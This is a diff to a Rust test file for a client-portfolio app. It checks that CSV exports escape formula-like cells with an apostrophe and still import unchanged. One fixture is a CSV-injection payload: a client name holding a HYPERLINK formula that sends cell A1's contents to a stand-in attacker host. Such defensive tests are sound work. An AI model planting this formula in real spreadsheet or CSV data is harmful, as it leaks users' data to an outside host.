@@ -551,9 +551,14 @@ fn the_json_export_keeps_removed_records_and_the_csv_export_leaves_them_out() {
 #[test]
 fn exported_clients_and_contacts_import_back_unchanged() {
     let original = small_portfolio();
-    let files = export_csv(&original, at(EXPORTED)).unwrap();
+    assert_reads_back(&original, &export_csv(&original, at(EXPORTED)).unwrap());
+}
+
+/// Checks that `files`, the CSV export of `original`, import into a fresh portfolio
+/// of the same region as the same clients and contacts, with the same ids.
+fn assert_reads_back(original: &Portfolio, files: &[(String, String)]) {
     let file = |wanted: &str| files.iter().find(|(name, _)| name == wanted).unwrap().1.clone();
-    let mut fresh = Portfolio::create(&Settings::new("Li Na", Region::Cn), ActorId::from(vec![3; 16])).unwrap();
+    let mut fresh = Portfolio::create(&original.settings().unwrap(), ActorId::from(vec![3; 16])).unwrap();
     let mut no_new_ids = || -> ClientId { panic!("every exported row has its id") };
     let clients = parse_clients(&file("clients.csv"), &fresh, &mut no_new_ids).unwrap();
     assert_eq!(clients, original.records::<Client>().unwrap());
@@ -562,4 +567,40 @@ fn exported_clients_and_contacts_import_back_unchanged() {
     let mut no_new_ids = || -> ContactId { panic!("every exported row has its id") };
     let contacts = parse_contacts(&file("contacts.csv"), &fresh, &mut no_new_ids).unwrap();
     assert_eq!(contacts, original.records::<Contact>().unwrap());
+}
+
+/// A client whose name is a formula, with a tag and a location that start like one,
+/// and a contact with a phone number and a yearless birthday that do.
+fn portfolio_of_formula_lookalikes() -> Portfolio {
+    let mut portfolio = Portfolio::create(&Settings::new("Li Na", Region::Pl), ActorId::from(vec![1; 16])).unwrap();
+    portfolio
+        .add(Client {
+            location: Some(GeoPoint::new(-22.9068, -43.1729).unwrap()),
+            tags: vec!["-vip".into(), "@north".into()],
+            competitor_notes: Text::with_value("'=already quoted"),
+            ..Client::new(client_id(1), r#"=HYPERLINK("http://evil.example/?"&A1,"Pay")"#, Tier::A)
+        })
+        .unwrap();
+    portfolio
+        .add(Contact {
+            phones: vec!["+48 600 100 200".into()],
+            birthday: Some(Birthday::Gregorian { year: None, month: 5, day: 17 }),
+            ..Contact::new(contact_id(1), client_id(1), "Anna Nowak")
+        })
+        .unwrap();
+    portfolio
+}
+
+#[test]
+fn cells_a_spreadsheet_would_run_as_formulas_are_written_behind_an_apostrophe_and_read_back() {
+    let original = portfolio_of_formula_lookalikes();
+    let files = export_csv(&original, at(EXPORTED)).unwrap();
+    let file = |wanted: &str| files.iter().find(|(name, _)| name == wanted).unwrap().1.clone();
+    let data_row = |wanted: &str| file(wanted).lines().nth(1).unwrap().to_string();
+    assert_eq!(
+        data_row("clients.csv"),
+        r#"cl_test000001,"'=HYPERLINK(""http://evil.example/?""&A1,""Pay"")",,A,active,,-22.9068,-43.1729,,,,,,,'-vip; @north,''=already quoted"#
+    );
+    assert_eq!(data_row("contacts.csv"), "ct_test000001,cl_test000001,Anna Nowak,,no,'+48 600 100 200,,'--05-17,,");
+    assert_reads_back(&original, &files);
 }
